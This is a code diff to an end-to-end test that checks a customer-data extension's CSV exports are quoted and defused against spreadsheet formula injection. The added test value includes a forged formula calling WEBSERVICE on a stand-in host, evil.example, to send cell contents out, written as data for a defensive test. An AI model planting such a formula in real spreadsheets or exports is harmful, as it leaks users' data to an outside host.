@@ -13,6 +13,7 @@ const openOptionsPage = optionsPageOpener();
 const data = (page: Page) => page.getByRole('region', { name: 'Data', exact: true });
 const BOM = Buffer.from([0xef, 0xbb, 0xbf]);
 const DAY = 24 * 60 * 60 * 1000;
+const FORGED = '=1+1;=WEBSERVICE("https://evil.example/?"&A1)';
 const daysAgo = (n: number) => new Date(Date.now() - n * DAY).toISOString();
 
 const MINJI_EVENTS: EventSeed[] = [
@@ -25,8 +26,10 @@ async function openWithCustomers(context: BrowserContext, extensionId: string): 
   const page = await openOptionsPage(context, extensionId);
   await seedCustomers(page, [
     { handle: 'minji_kim', displayHandle: 'Minji_Kim', name: '김민지', plan: '5G 프리미엄', phone: '+82 10-1234-5678', tags: ['vip', '유심'], attributes: { 지역: '서울' } },
-    { handle: 'prankster', name: '=HYPERLINK("x")', note: '@everyone -1' },
-  ], [...MINJI_EVENTS, { customerHandle: 'prankster', kind: 'note', at: '2026-11-23T01:00:00.000Z', text: '=1+1' }]);
+    // Tags and a forged text whose later `;`-pieces are formulas: Excel with `;` as list separator
+    // (German, French locales) splits cells there.
+    { handle: 'prankster', name: '=HYPERLINK("x")', note: '@everyone -1', tags: ['vip', '=1+1'] },
+  ], [...MINJI_EVENTS, { customerHandle: 'prankster', kind: 'note', at: '2026-11-23T01:00:00.000Z', text: FORGED }]);
   return page;
 }
 
@@ -46,18 +49,19 @@ test('exports open safely in Excel, and a backup brings an erased customer back'
   expect(customers.bytes.subarray(0, 3)).toEqual(BOM);
   const csv = customers.bytes.subarray(3).toString('utf8');
   expect(csv.split('\r\n')).toEqual([
-    'handle,name,customer_id,phone,email,plan,tags,note,지역',
-    `Minji_Kim,김민지,,'+82 10-1234-5678,,5G 프리미엄,vip;유심,,서울`,
-    `prankster,"'=HYPERLINK(""x"")",,,,,,'@everyone -1,`,
+    // Every cell quoted; every piece of a cell that starts with a formula character defused.
+    '"handle","name","customer_id","phone","email","plan","tags","note","지역"',
+    `"Minji_Kim","김민지","","'+82 10-1234-5678","","5G 프리미엄","vip;유심","","서울"`,
+    `"prankster","'=HYPERLINK(""x"")","","","","","vip;'=1+1","'@everyone -1",""`,
     '',
   ]);
 
   const history = await download(page, 'Export history (CSV)');
   await expect(section.getByRole('status')).toHaveText('Exported 4 history entries');
   const rows = history.bytes.subarray(3).toString('utf8').split('\r\n');
-  expect(rows[0]).toBe('handle,at,kind,agent,tweet_url,status_id,template_id,text');
-  expect(rows).toContain('minji_kim,2026-11-20T01:00:00.000Z,reply-sent,,,,,불편을 드려 죄송합니다. 유심을 교체해 드리겠습니다.');
-  expect(rows).toContain(`prankster,2026-11-23T01:00:00.000Z,note,,,,,'=1+1`);
+  expect(rows[0]).toBe('"handle","at","kind","agent","tweet_url","status_id","template_id","text"');
+  expect(rows).toContain('"minji_kim","2026-11-20T01:00:00.000Z","reply-sent","","","","","불편을 드려 죄송합니다. 유심을 교체해 드리겠습니다."');
+  expect(rows).toContain(`"prankster","2026-11-23T01:00:00.000Z","note","","","","","'=1+1;'=WEBSERVICE(""https://evil.example/?""&A1)"`);
 
   const backup = await download(page, 'Download backup (JSON)');
   await expect(section.getByRole('status')).toHaveText(/^Backup downloaded: 2 customers, 4 history entries, \d+ templates, 0 packs$/);
